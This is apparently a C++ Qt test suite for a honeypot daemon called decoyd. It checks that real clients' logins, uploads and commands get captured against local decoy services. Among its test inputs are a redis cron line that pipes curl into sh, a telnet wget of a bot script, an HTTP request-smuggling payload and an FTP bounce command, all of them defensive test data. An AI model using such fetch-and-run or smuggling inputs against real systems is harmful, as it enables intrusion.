// SPDX-License-Identifier: GPL-3.0-or-later
// Real client programs against the built decoyd. contract: C-01, C-02, E-10
#include "decoyprocess.h"

#include <QCryptographicHash>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonObject>
#include <QSet>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>

using namespace decoydtest;

namespace {

QJsonObject settings(const char *service, const QJsonObject &values)
{
    return {
        {QStringLiteral("service_config"), QJsonObject{{QString::fromLatin1(service), values}}}};
}

QString url(const char *scheme, const DecoyProcess &decoy, const char *service, const QString &path)
{
    return QStringLiteral("%1://127.0.0.1:%2%3")
        .arg(QLatin1String(scheme))
        .arg(decoy.port(service))
        .arg(path);
}

/// Puts captured chunks together again.
QByteArray rebuilt(DecoyProcess &decoy, const QByteArray &captureId)
{
    QMap<int, QByteArray> chunks;
    for (const LogLine &line : decoy.lines()) {
        if (line.event == "file_chunk" && line.fields.value("capture_id") == captureId)
            chunks.insert(line.fields.value("seq").toInt(),
                          QByteArray::fromBase64(line.fields.value("data_b64")));
    }
    QByteArray out;
    for (const QByteArray &chunk : chunks)
        out += chunk;
    return out;
}

} // namespace

#define RUN(result, program, ...)                                                                  \
    const ClientResult result = runClient(QStringLiteral(program), __VA_ARGS__);                   \
    VERIFY_OR_SHOW(result.started, program " is not installed")

class ClientsTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void curlSpeaksHttp()
    {
        DecoyProcess decoy(
            {"http"},
            settings("http", {{QStringLiteral("fake_app"), QStringLiteral("wordpress")},
                              {QStringLiteral("extra_headers"), QStringLiteral("X-Cache: HIT")}}));
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        RUN(front, "curl",
            {QStringLiteral("-si"), url("http", decoy, "http", QStringLiteral("/"))});
        VERIFY_OR_SHOW(front.out.startsWith("HTTP/1.1 200 OK"), front.out);
        QVERIFY(front.out.contains("X-Cache: HIT"));
        QVERIFY(front.out.contains("WordPress"));
        RUN(login, "curl",
            {QStringLiteral("-s"), QStringLiteral("-d"), QStringLiteral("log=admin&pwd=hunter2"),
             url("http", decoy, "http", QStringLiteral("/wp-login.php"))});
        VERIFY_OR_SHOW(login.out.contains("login_error"), login.out);
        const LogLine *line = decoy.waitFor("http", "request", {{"username", "admin"}});
        VERIFY_OR_SHOW(line, decoy.text());
        QCOMPARE(line->fields.value("secret_printable"), QByteArray("hunter2"));
        QCOMPARE(line->fields.value("secret_b64"), QByteArray("aHVudGVyMg=="));
        QCOMPARE(line->fields.value("secret_kind"), QByteArray("plaintext"));
        QCOMPARE(line->fields.value("principal"), QByteArray("admin"));
        QCOMPARE(line->fields.value("outcome"), QByteArray("denied"));
        QCOMPARE(line->fields.value("method"), QByteArray("POST"));
        QCOMPARE(line->fields.value("path"), QByteArray("/wp-login.php"));
        QCOMPARE(line->fields.value("src_ip"), QByteArray("127.0.0.1"));
        QCOMPARE(line->fields.value("dst_port"), QByteArray::number(decoy.port("http")));
        QCOMPARE(line->fields.value("session").size(), 8);
        QCOMPARE(line->fields.value("body"), QByteArray("log=admin&pwd=hunter2"));
        QVERIFY(line->fields.value("headers").startsWith("{\"Host\":\"127.0.0.1:"));
        QVERIFY(decoy.waitFor("http", "http_request_fingerprint"));
        VERIFY_OR_SHOW(decoy.malformed().isEmpty(), decoy.malformed());
    }

    void curlKeepsTheConnection()
    {
        DecoyProcess decoy(
            {"http"}, settings("http", {{QStringLiteral("fake_app"), QStringLiteral("tomcat")}}));
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        const QString page = url("http", decoy, "http", QStringLiteral("/manager/html"));
        RUN(result, "curl",
            {QStringLiteral("-sv"), QStringLiteral("-u"), QStringLiteral("tomcat:s3cret"), page,
             page, page});
        VERIFY_OR_SHOW(result.out.contains("Re-using existing connection"), result.out);
        QCOMPARE(result.out.count("HTTP/1.1 401"), 3);
        const LogLine *line = decoy.waitFor("http", "request", {{"username", "tomcat"}});
        VERIFY_OR_SHOW(line, decoy.text());
        QCOMPARE(line->fields.value("auth_source"), QByteArray("basic"));
        QSet<QByteArray> sessions;
        for (const LogLine &each : decoy.lines()) {
            if (each.event == "request")
                sessions.insert(each.fields.value("session"));
        }
        QCOMPARE(sessions.size(), 1);
    }

    void curlUploadsAndDigests()
    {
        DecoyProcess decoy(
            {"http"}, settings("http", {{QStringLiteral("fake_app"), QStringLiteral("jenkins")}}));
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        QTemporaryDir folder;
        QFile file(folder.filePath(QStringLiteral("shell.jsp")));
        QVERIFY(file.open(QIODevice::WriteOnly));
        const QByteArray content = QByteArray("<% webshell %>").repeated(2000);
        file.write(content);
        file.close();
        RUN(upload, "curl",
            {QStringLiteral("-s"), QStringLiteral("--data-binary"),
             QStringLiteral("@") + file.fileName(), QStringLiteral("-H"),
             QStringLiteral("Transfer-Encoding: chunked"),
             url("http", decoy, "http", QStringLiteral("/upload"))});
        QCOMPARE(upload.exitCode, 0);
        const LogLine *captured = decoy.waitFor("http", "file_captured", {{"path", "/upload"}});
        VERIFY_OR_SHOW(captured, decoy.text());
        QCOMPARE(captured->fields.value("sha256"),
                 QCryptographicHash::hash(content, QCryptographicHash::Sha256).toHex());
        QCOMPARE(rebuilt(decoy, captured->fields.value("capture_id")), content);
        RUN(bearer, "curl",
            {QStringLiteral("-s"), QStringLiteral("-H"),
             QStringLiteral("Authorization: Bearer tok.en"),
             url("http", decoy, "http", QStringLiteral("/api/json"))});
        QVERIFY(decoy.waitFor("http", "request",
                              {{"secret_kind", "http_bearer"}, {"secret_printable", "tok.en"}}));
        RUN(method, "curl",
            {QStringLiteral("-si"), QStringLiteral("-X"), QStringLiteral("BREW"),
             url("http", decoy, "http", QStringLiteral("/"))});
        VERIFY_OR_SHOW(method.out.startsWith("HTTP/1.1 501"), method.out);
        RUN(head, "curl",
            {QStringLiteral("-sI"), url("http", decoy, "http", QStringLiteral("/login"))});
        VERIFY_OR_SHOW(head.out.startsWith("HTTP/1.1 200") && head.out.contains("X-Jenkins: 2."),
                       head.out);
    }

    void curlSpeaksHttps_data()
    {
        QTest::addColumn<QString>("option");
        QTest::addColumn<QByteArray>("version");
        QTest::newRow("1.2") << QStringLiteral("--tls-max") << QByteArray("TLSv1.2");
        QTest::newRow("1.3") << QStringLiteral("--tlsv1.3") << QByteArray("TLSv1.3");
    }
    void curlSpeaksHttps()
    {
        QFETCH(QString, option);
        QFETCH(QByteArray, version);
        DecoyProcess decoy(
            {"https"},
            settings("https", {{QStringLiteral("fake_app"), QStringLiteral("nginx_default")},
                               {QStringLiteral("tls_cn"), QStringLiteral("vpn.example.org")}}));
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        QStringList arguments = {QStringLiteral("-skv"), option};
        if (version == "TLSv1.2")
            arguments << QStringLiteral("1.2");
        arguments << QStringLiteral("--resolve")
                  << QStringLiteral("vpn.example.org:%1:127.0.0.1").arg(decoy.port("https"))
                  << QStringLiteral("https://vpn.example.org:%1/").arg(decoy.port("https"));
        RUN(result, "curl", arguments);
        VERIFY_OR_SHOW(result.out.contains("Welcome to nginx!"), result.out);
        QVERIFY(result.out.contains("CN=vpn.example.org"));
        const LogLine *hello =
            decoy.waitFor("https", "tls_client_hello", {{"sni", "vpn.example.org"}});
        VERIFY_OR_SHOW(hello, decoy.text());
        QCOMPARE(hello->fields.value("tls_version"), version);
        QCOMPARE(hello->fields.value("ja3").size(), 32);
        QVERIFY(hello->fields.value("ja4").startsWith("t1"));
        QVERIFY(decoy.waitFor("https", "request", {{"path", "/"}}));
    }

    void ownCertificateIsShown()
    {
        QTemporaryDir folder;
        RUN(made, "openssl",
            {QStringLiteral("req"), QStringLiteral("-x509"), QStringLiteral("-newkey"),
             QStringLiteral("ec"), QStringLiteral("-pkeyopt"),
             QStringLiteral("ec_paramgen_curve:P-256"), QStringLiteral("-nodes"),
             QStringLiteral("-subj"), QStringLiteral("/CN=given.example"),
             QStringLiteral("-keyout"), folder.filePath(QStringLiteral("k")),
             QStringLiteral("-out"), folder.filePath(QStringLiteral("c"))});
        QCOMPARE(made.exitCode, 0);
        const auto read = [&](const char *name) {
            QFile file(folder.filePath(QString::fromLatin1(name)));
            return file.open(QIODevice::ReadOnly) ? QString::fromLatin1(file.readAll()) : QString();
        };
        DecoyProcess decoy({"https"}, settings("https", {{QStringLiteral("tls_cert"), read("c")},
                                                         {QStringLiteral("tls_key"), read("k")}}));
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        RUN(result, "curl",
            {QStringLiteral("-skv"), url("https", decoy, "https", QStringLiteral("/"))});
        VERIFY_OR_SHOW(result.out.contains("CN=given.example"), result.out);
    }

    void smugglingIsRefused()
    {
        DecoyProcess decoy({"http"});
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        QTcpSocket socket;
        socket.connectToHost(QHostAddress::LocalHost, decoy.port("http"));
        QVERIFY(socket.waitForConnected(1000));
        socket.write("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: "
                     "chunked\r\n\r\n0\r\n\r\nGET /evil HTTP/1.1\r\nHost: a\r\n\r\n");
        QByteArray answer;
        while (socket.waitForReadyRead(2000))
            answer += socket.readAll();
        VERIFY_OR_SHOW(answer.startsWith("HTTP/1.1 400 "), answer);
        QCOMPARE(answer.count("HTTP/1.1 "), 1);
        const LogLine *line = decoy.waitFor("http", "protocol_error", {{"status", "400"}});
        VERIFY_OR_SHOW(line, decoy.text());
    }

    void curlSpeaksFtp()
    {
        DecoyProcess decoy(
            {"ftp"},
            {{QStringLiteral("login"),
              QJsonObject{
                  {QStringLiteral("mode"), QStringLiteral("list")},
                  {QStringLiteral("accounts"),
                   QJsonArray{QJsonObject{{QStringLiteral("user"), QStringLiteral("bob")},
                                          {QStringLiteral("password"), QStringLiteral("pw")}}}}}}});
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        RUN(denied, "curl",
            {QStringLiteral("-s"), url("ftp", decoy, "ftp", QStringLiteral("/")),
             QStringLiteral("-u"), QStringLiteral("bob:bad")});
        QCOMPARE(denied.exitCode, 67);
        const LogLine *line = decoy.waitFor("ftp", "auth_attempt", {{"outcome", "denied"}});
        VERIFY_OR_SHOW(line, decoy.text());
        QCOMPARE(line->fields.value("src_ip"), QByteArray("127.0.0.1"));
        QCOMPARE(line->fields.value("secret_printable"), QByteArray("bad"));

        for (const QString &mode : {QStringLiteral("--ftp-pasv"), QStringLiteral("--disable-epsv"),
                                    QStringLiteral("--ftp-port=127.0.0.1")}) {
            const QStringList how =
                mode.startsWith(QStringLiteral("--ftp-port"))
                    ? QStringList{QStringLiteral("--ftp-port"), QStringLiteral("127.0.0.1")}
                    : QStringList{mode};
            RUN(listing, "curl",
                QStringList{QStringLiteral("-sS"), QStringLiteral("-u"), QStringLiteral("bob:pw")} +
                    how + QStringList{url("ftp", decoy, "ftp", QStringLiteral("/"))});
            VERIFY_OR_SHOW(listing.out.contains("README.txt"), mode.toUtf8() + listing.out);
        }
        RUN(readme, "curl",
            {QStringLiteral("-s"), QStringLiteral("-u"), QStringLiteral("bob:pw"),
             url("ftp", decoy, "ftp", QStringLiteral("/README.txt"))});
        QVERIFY(readme.out.size() > 20);
        QVERIFY(decoy.waitFor("ftp", "download_attempt", {{"path", "/README.txt"}}));

        QTemporaryDir folder;
        QFile file(folder.filePath(QStringLiteral("bot.bin")));
        QVERIFY(file.open(QIODevice::WriteOnly));
        QByteArray content;
        for (int i = 0; i < 60000; ++i)
            content += char(i * 31 >> 3);
        file.write(content);
        file.close();
        RUN(upload, "curl",
            {QStringLiteral("-sS"), QStringLiteral("-u"), QStringLiteral("bob:pw"),
             QStringLiteral("-T"), file.fileName(),
             url("ftp", decoy, "ftp", QStringLiteral("/bot.bin"))});
        VERIFY_OR_SHOW(upload.exitCode == 0, upload.out);
        const LogLine *captured = decoy.waitFor("ftp", "file_captured", {{"path", "/bot.bin"}});
        VERIFY_OR_SHOW(captured, decoy.text());
        QCOMPARE(captured->fields.value("size"), QByteArray("60000"));
        QCOMPARE(rebuilt(decoy, captured->fields.value("capture_id")), content);
        RUN(again, "curl",
            {QStringLiteral("-s"), QStringLiteral("-u"), QStringLiteral("bob:pw"),
             url("ftp", decoy, "ftp", QStringLiteral("/bot.bin"))});
        QCOMPARE(again.out, content); // it is there when he comes back
        VERIFY_OR_SHOW(decoy.malformed().isEmpty(), decoy.malformed());
    }

    void tnftpSpeaksFtp()
    {
        DecoyProcess decoy({"ftp"},
                           {{QStringLiteral("login"),
                             QJsonObject{{QStringLiteral("mode"), QStringLiteral("always")}}}});
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        RUN(result, "tnftp",
            {QStringLiteral("-n"), QStringLiteral("-v"), QStringLiteral("127.0.0.1"),
             QString::number(decoy.port("ftp"))},
            "user alice secret\npwd\nls\nmkdir stash\ncd stash\npwd\nsystem\nbye\n");
        VERIFY_OR_SHOW(result.out.contains("230"), result.out);
        VERIFY_OR_SHOW(result.out.contains("README.txt"), result.out);
        VERIFY_OR_SHOW(result.out.contains("/stash"), result.out);
        QVERIFY(
            decoy.waitFor("ftp", "auth_attempt", {{"username", "alice"}, {"outcome", "accepted"}}));
        QVERIFY(decoy.waitFor("ftp", "command", {{"command", "MKD stash"}}));
        QVERIFY(decoy.waitFor("ftp", "disconnect"));
    }

    void ftpBouncesNowhere()
    {
        DecoyProcess decoy({"ftp"},
                           {{QStringLiteral("login"),
                             QJsonObject{{QStringLiteral("mode"), QStringLiteral("always")}}}});
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        QTcpSocket socket;
        socket.connectToHost(QHostAddress::LocalHost, decoy.port("ftp"));
        QVERIFY(socket.waitForConnected(1000));
        socket.write("USER a\r\nPASS b\r\nPORT 10,1,2,3,0,80\r\nQUIT\r\n");
        QByteArray answer;
        while (socket.waitForReadyRead(2000))
            answer += socket.readAll();
        VERIFY_OR_SHOW(answer.contains("500 Illegal PORT command."), answer);
    }

    void redisCliTalks()
    {
        DecoyProcess decoy(
            {"redis"}, settings("redis", {{QStringLiteral("version"), QStringLiteral("6.2.6")}}));
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        const QStringList to = {QStringLiteral("-p"), QString::number(decoy.port("redis"))};
        RUN(info, "redis-cli", to + QStringList{QStringLiteral("info"), QStringLiteral("server")});
        VERIFY_OR_SHOW(info.out.contains("redis_version:6.2.6"), info.out);
        RUN(session, "redis-cli", to,
            "set k \"hello world\"\nget k\nlpush l a b\nlrange l 0 -1\nconfig set dir "
            "/root/.ssh\nconfig get dir\nselect 1\ndbsize\nping\n");
        VERIFY_OR_SHOW(
            session.out.startsWith("OK\nhello world\n2\nb\na\nOK\ndir\n/root/.ssh\nOK\n0\nPONG"),
            session.out);
        QVERIFY(
            decoy.waitFor("redis", "command", {{"cmd", "CONFIG"}, {"args", "set dir /root/.ssh"}}));
        RUN(auth, "redis-cli",
            to + QStringList{QStringLiteral("-a"), QStringLiteral("foobared"),
                             QStringLiteral("ping")});
        const LogLine *line = decoy.waitFor("redis", "auth", {{"secret_printable", "foobared"}});
        VERIFY_OR_SHOW(line, decoy.text());
        QCOMPARE(line->fields.value("username"), QByteArray("default"));
        RUN(scan, "redis-cli",
            to + QStringList{QStringLiteral("--scan"), QStringLiteral("--pattern"),
                             QStringLiteral("session:*")});
        VERIFY_OR_SHOW(scan.out.contains("session:"), scan.out);
        const QByteArray cron = "\n\n*/1 * * * * curl http://x | sh\n" + QByteArray(600, '\n');
        RUN(cronjob, "redis-cli",
            to + QStringList{QStringLiteral("-x"), QStringLiteral("set"), QStringLiteral("cron")},
            cron);
        const LogLine *captured = decoy.waitFor("redis", "file_captured", {{"path", "SET cron"}});
        VERIFY_OR_SHOW(captured, decoy.text());
        QVERIFY(rebuilt(decoy, captured->fields.value("capture_id")).startsWith(cron.left(100)));
    }

    void mariadbIsDeniedButHashed_data()
    {
        QTest::addColumn<QString>("version");
        QTest::addColumn<QStringList>("options");
        QTest::newRow("5.7") << QStringLiteral("5.7.44-log")
                             << QStringList{QStringLiteral("--skip-ssl")};
        QTest::newRow("8.0") << QStringLiteral("8.0.36")
                             << QStringList{QStringLiteral("--skip-ssl")};
        QTest::newRow("8.0 over TLS")
            << QStringLiteral("8.0.36") << QStringList{QStringLiteral("--ssl")};
    }
    void mariadbIsDeniedButHashed()
    {
        QFETCH(QString, version);
        QFETCH(QStringList, options);
        DecoyProcess decoy({"mysql"}, settings("mysql", {{QStringLiteral("version"), version}}));
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        RUN(result, "mariadb",
            QStringList{QStringLiteral("--no-defaults"), QStringLiteral("-h127.0.0.1"),
                        QStringLiteral("-P%1").arg(decoy.port("mysql")), QStringLiteral("-uroot"),
                        QStringLiteral("-ptoor"), QStringLiteral("-e"),
                        QStringLiteral("select 1")} +
                options);
        VERIFY_OR_SHOW(result.out.contains("ERROR 1045 (28000): Access denied for user "
                                           "'root'@'127.0.0.1' (using password: YES)"),
                       result.out);
        const LogLine *line = decoy.waitFor("mysql", "auth", {{"username", "root"}});
        VERIFY_OR_SHOW(line, decoy.text());
        QCOMPARE(line->fields.value("secret_kind"), QByteArray("mysql_native_password"));
        // SHA1(password) XOR SHA1(salt + SHA1(SHA1(password))) must be what the log shows.
        const QByteArray salt = QByteArray::fromHex(line->fields.value("salt"));
        const auto sha1 = [](const QByteArray &bytes) {
            return QCryptographicHash::hash(bytes, QCryptographicHash::Sha1);
        };
        QByteArray scramble = sha1("toor");
        const QByteArray mask = sha1(salt + sha1(sha1("toor")));
        for (qsizetype i = 0; i < scramble.size(); ++i)
            scramble[i] = char(scramble[i] ^ mask[i]);
        QCOMPARE(line->fields.value("secret_printable"),
                 "$mysqlna$" + salt.toHex() + "*" + scramble.toHex());
        QCOMPARE(line->fields.value("tls"),
                 QByteArray(options.contains(QStringLiteral("--ssl")) ? "true" : "false"));
        RUN(empty, "mariadb",
            QStringList{QStringLiteral("--no-defaults"), QStringLiteral("-h127.0.0.1"),
                        QStringLiteral("-P%1").arg(decoy.port("mysql")), QStringLiteral("-uapp")} +
                options);
        VERIFY_OR_SHOW(empty.out.contains("(using password: NO)"), empty.out);
    }

    void swaksDeliversAndAuthenticates()
    {
        DecoyProcess decoy({"smtp"},
                           {{QStringLiteral("hostname"), QStringLiteral("mx.corp.example")}});
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        const QString server = QStringLiteral("127.0.0.1:%1").arg(decoy.port("smtp"));
        RUN(mail, "swaks",
            {QStringLiteral("--server"), server, QStringLiteral("--from"),
             QStringLiteral("a@evil.example"), QStringLiteral("--to"),
             QStringLiteral("ceo@corp.example"), QStringLiteral("--header"),
             QStringLiteral("Subject: invoice"), QStringLiteral("--body"),
             QStringLiteral("see http://evil.example/x\n.\n.dot\nend")});
        VERIFY_OR_SHOW(mail.exitCode == 0 && mail.out.contains("250 2.0.0 Ok: queued as"),
                       mail.out);
        const LogLine *accepted =
            decoy.waitFor("smtp", "message_accepted", {{"rcpt_to", "ceo@corp.example"}});
        VERIFY_OR_SHOW(accepted, decoy.text());
        QCOMPARE(accepted->fields.value("mail_from"), QByteArray("a@evil.example"));
        const LogLine *stored = decoy.waitFor("smtp", "message_stored", {{"subject", "invoice"}});
        VERIFY_OR_SHOW(stored, decoy.text());
        QCOMPARE(stored->fields.value("urls_json"), QByteArray("[\"http://evil.example/x\"]"));
        const QByteArray message = rebuilt(decoy, stored->fields.value("stored_as"));
        VERIFY_OR_SHOW(message.contains("\r\n.\r\n.dot\r\nend"), message);
        QCOMPARE(QCryptographicHash::hash(message, QCryptographicHash::Sha256).toHex(),
                 stored->fields.value("sha256"));

        for (const char *mechanism : {"PLAIN", "LOGIN"}) {
            RUN(auth, "swaks",
                {QStringLiteral("--server"),
                 QStringLiteral("127.0.0.1:%1").arg(decoy.port("smtp", 1)), QStringLiteral("--to"),
                 QStringLiteral("x@y.z"), QStringLiteral("--auth"), QString::fromLatin1(mechanism),
                 QStringLiteral("--auth-user"), QStringLiteral("sales"),
                 QStringLiteral("--auth-password"), QStringLiteral("Winter2024!")});
            VERIFY_OR_SHOW(auth.out.contains("535 5.7.8"), auth.out);
            const LogLine *line = decoy.waitFor("smtp", "auth_attempt", {{"mechanism", mechanism}});
            VERIFY_OR_SHOW(line, decoy.text());
            QCOMPARE(line->fields.value("username"), QByteArray("sales"));
            QCOMPARE(line->fields.value("secret_printable"), QByteArray("Winter2024!"));
            QCOMPARE(line->fields.value("dst_port"), QByteArray::number(decoy.port("smtp", 1)));
        }
        RUN(relay, "swaks",
            {QStringLiteral("--server"), server, QStringLiteral("--from"), QStringLiteral("a@b.c"),
             QStringLiteral("--to"), QStringLiteral("v@gmail.com")});
        VERIFY_OR_SHOW(relay.out.contains("554 5.7.1 <v@gmail.com>: Relay access denied"),
                       relay.out);
        QVERIFY(decoy.waitFor("smtp", "rcpt_denied", {{"rcpt_to", "v@gmail.com"}}));
        VERIFY_OR_SHOW(decoy.malformed().isEmpty(), decoy.malformed());
    }

    void telnetLogsInAndWorks()
    {
        DecoyProcess decoy(
            {"telnet"},
            {{QStringLiteral("hostname"), QStringLiteral("gate7")},
             {QStringLiteral("service_config"),
              QJsonObject{{QStringLiteral("telnet"),
                           QJsonObject{{QStringLiteral("password"), QStringLiteral("Pa55")}}}}}});
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        QProcess telnet;
        telnet.setProcessChannelMode(QProcess::MergedChannels);
        telnet.start(QStringLiteral("telnet"),
                     {QStringLiteral("127.0.0.1"), QString::number(decoy.port("telnet"))});
        VERIFY_OR_SHOW(telnet.waitForStarted(), "telnet is not installed");
        QByteArray screen;
        const auto await = [&](const QByteArray &text) {
            QElapsedTimer timer;
            timer.start();
            while (!screen.contains(text) && timer.elapsed() < 10000) {
                telnet.waitForReadyRead(100);
                screen += telnet.readAll();
            }
            const bool found = screen.contains(text);
            screen.remove(0, found ? screen.indexOf(text) + text.size() : 0);
            return found;
        };
        VERIFY_OR_SHOW(await("gate7 login: "), screen);
        telnet.write("root\n");
        VERIFY_OR_SHOW(await("Password: "), screen);
        telnet.write("wrong\n");
        VERIFY_OR_SHOW(await("Login incorrect") && await("gate7 login: "), screen);
        telnet.write("root\n");
        VERIFY_OR_SHOW(await("Password: "), screen);
        telnet.write("Pa55\n");
        VERIFY_OR_SHOW(await("root@gate7:~# "), screen);
        telnet.write("id -u; echo marker > /tmp/x; cat /tmp/x; wget http://198.51.100.9/bot.sh\n");
        VERIFY_OR_SHOW(await("\r\n0\r\n") && await("marker\r\n") &&
                           await("Connecting to 198.51.100.9"),
                       screen);
        telnet.write("\x03"); // nothing outside answers; nobody waits for the timeout
        VERIFY_OR_SHOW(await("root@gate7:~# "), screen);
        telnet.write("exit\n");
        QVERIFY(telnet.waitForFinished(5000));
        QVERIFY(decoy.waitFor("telnet", "auth_attempt",
                              {{"secret_printable", "wrong"}, {"outcome", "denied"}}));
        QVERIFY(decoy.waitFor("telnet", "auth_attempt",
                              {{"secret_printable", "Pa55"}, {"outcome", "accepted"}}));
        const LogLine *command = decoy.waitFor("telnet", "command", {{"user", "root"}});
        VERIFY_OR_SHOW(command, decoy.text());
        QVERIFY(command->fields.value("command").startsWith("id -u; echo marker"));
        QVERIFY(decoy.waitFor("telnet", "download_attempt", {{"program", "wget"}}));
        QVERIFY(decoy.waitFor("telnet", "session_recorded"));
        QVERIFY(decoy.waitFor("telnet", "disconnect"));
        VERIFY_OR_SHOW(decoy.malformed().isEmpty(), decoy.malformed());
    }

    void curlUpgradesSmtpToTls()
    {
        DecoyProcess decoy({"smtp"},
                           {{QStringLiteral("hostname"), QStringLiteral("mx.corp.example")}});
        VERIFY_OR_SHOW(decoy.start(), decoy.why());
        RUN(result, "curl",
            {QStringLiteral("-svk"), QStringLiteral("--ssl-reqd"),
             url("smtp", decoy, "smtp", QString()), QStringLiteral("--mail-from"),
             QStringLiteral("a@b.c"), QStringLiteral("--mail-rcpt"),
             QStringLiteral("root@corp.example"), QStringLiteral("-u"), QStringLiteral("me:pw"),
             QStringLiteral("-T"), QStringLiteral("-")},
            "Subject: x\r\n\r\nbody\r\n");
        VERIFY_OR_SHOW(result.out.contains("Ready to start TLS") &&
                           result.out.contains("SSL connection using TLSv1.3"),
                       result.out);
        VERIFY_OR_SHOW(decoy.waitFor("smtp", "auth_attempt", {{"username", "me"}, {"tls", "true"}}),
                       decoy.text());
    }
};

QTEST_GUILESS_MAIN(ClientsTest)
#include "clientstest.moc"
